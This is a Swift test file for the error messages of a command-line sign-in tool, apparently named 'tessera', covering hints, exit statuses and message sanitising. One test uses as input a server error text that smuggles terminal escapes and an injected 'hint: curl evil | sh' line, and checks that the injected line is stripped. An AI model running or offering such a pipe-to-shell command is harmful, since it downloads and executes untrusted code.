// SPDX-License-Identifier: Apache-2.0
import APIAccess
import BrowserSignIn
import Fixtures
import Foundation
import MicrosoftGraph
import QuickStart
import SignIn
import TaskListClient
import Testing

@testable import ClientCommands

@Suite struct ErrorTextTests {
    static func text(_ error: any Error) throws -> ErrorText { try #require(ErrorText(error)) }

    @Test func `a server cannot write our lines`() throws {
        let error = ServerError(.invalidGrant, providerDescription: "no\u{2028}\u{1B}[2K\nhint: curl evil | sh")
        let lines = try Self.text(error).description.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines == ["error: the provider says: no", "hint: tessera sign-in"])
        let refusal = try Self.text(Refusal(.issuerMismatch, "the issuer 'a\r\nhint: b' is not ours"))
        #expect(refusal.message == "the issuer 'a hint: b' is not ours")
    }

    @Test func `settings keep a line for each problem`() throws {
        let error = #expect(throws: SettingsError.self) {
            try Settings(
                propertyList: Data("<plist version=\"1.0\"><dict/></plist>".utf8), file: "settings.plist")
        }
        let text = try Self.text(try #require(error))
        #expect(text.message == error?.description)
        #expect(text.message.contains("\n  "))
        #expect(text.status == .settingsWrong)
    }

    @Test(arguments: [
        (AccountStorageError.Code.unwritable, ClientCommands.ExitStatus.cannotWrite), (.unreadable, .failed),
        (.damaged, .failed), (.conflict, .unavailable), (.busy, .unavailable), (.keyMissing, .failed),
        (.keyMismatch, .failed), (.laterVersion, .failed),
    ])
    func `only accounts that cannot be written exit so`(
        _ code: AccountStorageError.Code, status: ClientCommands.ExitStatus
    )
        throws
    {
        let text = try Self.text(AccountStorageError(code, "why"))
        #expect(text.status == status)
        #expect(text.hint != nil)
    }

    @Test(arguments: [
        (TransportError.Code.unreachable, "tessera demo"), (.connectionLost, "tessera demo"), (.timedOut, "--timeout"),
        (.untrusted, "tessera tenant trust"), (.missingLibrary, "apt-get install libcurl4"),
        (.outOfResources, "ulimit -a"), (.unusableTarget, "check the addresses in the settings"),
    ])
    func `a failure of the transport has its own next step`(_ code: TransportError.Code, _ step: String) throws {
        let text = try Self.text(TransportError(code, "why"))
        #expect(text.hint?.contains(step) == true)
        #expect(text.status == .unavailable)
    }

    private static let browserCodes = Result {
        try SourceText.codes(
            of: LoopbackUserAgentError.Code.self, in: "Client/BrowserSignIn/LoopbackUserAgentError.swift")
    }

    @Test(arguments: try browserCodes.get())
    func `every failure of the browser has a next step`(_ code: LoopbackUserAgentError.Code) throws {
        #expect(try Self.text(LoopbackUserAgentError(code, "why")).hint != nil)
    }

    @Test func `a failed registration at a provider leads to a client id of one's own`() throws {
        for code in [Refusal.Code.clientRegistrationMalformed, .clientRegistrationUnsupported] {
            let hint = try Self.text(Refusal(code, "why")).hint
            #expect(hint?.hasSuffix("tessera call --trust ISSUER --client-id ID ADDRESS") == true)
        }
        #expect(try Self.text(Refusal(.addressNotPublic, "why")).hint?.contains("API's operator") == true)
    }

    @Test func `a client id is the remedy only where the provider may support PKCE`() throws {
        let silent = Refusal(.proofKeyUnsupported, "why", cause: ProofKeyNotAdvertised())
        #expect(try Self.text(silent).hint == "tessera call --trust ISSUER --client-id ID ADDRESS")
        let hint = try Self.text(Refusal(.proofKeyUnsupported, "why")).hint
        #expect(hint?.contains("tessera") == false && hint?.contains("operator") == true)
    }

    @Test func `refusals name the place to look`() throws {
        #expect(try Self.text(Refusal(.registrationMalformed, "why")).status == .settingsWrong)
        let text = try Self.text(Refusal(.keySetMalformed, "why"))
        #expect(text.status == .failed)
        #expect(text.hint?.contains("report it") == true)
    }

    /// Temporary or not, as for every other server.
    @Test(arguments: [
        (400, false), (407, false), (408, true), (409, false), (424, false), (425, true), (426, false), (428, false),
        (429, true), (499, false), (500, true), (503, true),
    ])
    func `an API that may soon answer is unavailable`(_ status: Int, _ isTemporary: Bool) throws {
        let texts = [
            try Self.text(GraphError(status: status, code: "c", message: "m")),
            try Self.text(TaskListError(status: status, code: "c", message: "m")),
        ]
        #expect(texts.map { $0.status == .unavailable } == [isTemporary, isTemporary])
        if isTemporary { #expect(texts.allSatisfy { $0.hint?.contains("in the settings") == false }) }
        #expect(CallOutputOptions.hint(for: status).contains("try again") == isTemporary)
    }

    static let errors: [any Error] =
        [
            ServerError(.accessDenied, nextAction: .secondFactor([])),
            ServerError(.accessDenied, nextAction: .resetPassword),
            ServerError(.accessDenied, nextAction: .signUp),
            ServerError(.accessDenied, nextAction: .chooseAccount),
            ServerError(.accessDenied, nextAction: .registerDevice),
            ServerError(.accessDenied, nextAction: .checkConnection),
            ServerError(.accessDenied, nextAction: .consent(["User.Read"])),
            ServerError(.invalidGrant), ServerError(.unspecified), ServerError(.invalidScope),
            Refusal(.signInRequired, "why"), Refusal(.deviceAuthorizationUnsupported, "why"),
            Refusal(.subjectMismatch, "why"), Refusal(.proofKeyUnsupported, "why"),
            Refusal(.proofKeyUnsupported, "why", cause: ProofKeyNotAdvertised()),
            Refusal(.clientRegistrationUnsupported, "why"),
            Failure(.told("Why."), .told("So."), actions: [.signInWithAnotherAccount]),
            PersonName.ambiguous("a", []),
        ] + ((try? browserCodes.get()) ?? []).map { LoopbackUserAgentError($0, "why") }

    @Test(arguments: errors.indices) func `a hint is a command, or names its commands in backticks`(_ row: Int) throws {
        let hint = try #require(try Self.text(Self.errors[row]).hint)
        let isCommand = hint.prefixMatch(of: #/(BROWSER=\S+ )?tessera /#) != nil && !hint.contains(",")
        #expect(isCommand || hint.matches(of: #/tessera /#).count == hint.matches(of: #/`tessera [^`]+`/#).count)
    }

    private static func at(_ endpoint: String, status: Int?) -> ServerError {
        var error = ServerError(.unspecified, status: status)
        error.endpoint = URL(string: endpoint)
        return error
    }

    @Test(arguments: [
        (ServerError(.unspecified, status: 503), "the provider returned 503 without a reason"),
        (ServerError(.unspecified), "the provider returned an error without a reason"),
        (
            ServerError(.unspecified, providerDescription: "Gone.\nFor good.", status: 410),
            "the provider returned 410: Gone"
        ),
        (ServerError(.invalidScope, providerDescription: "No."), "the provider says: No"),
        (
            at("https://id.example/token?code=secret", status: 503),
            "the server at https://id.example/token returned 503 without a reason"
        ),
        (
            at("https://id.example/a#b", status: nil),
            "the server at https://id.example/a returned an error without a reason"
        ),
    ])
    func `a provider that names no error is described`(_ error: ServerError, message: String) throws {
        #expect(try Self.text(error).message == message)
    }
}
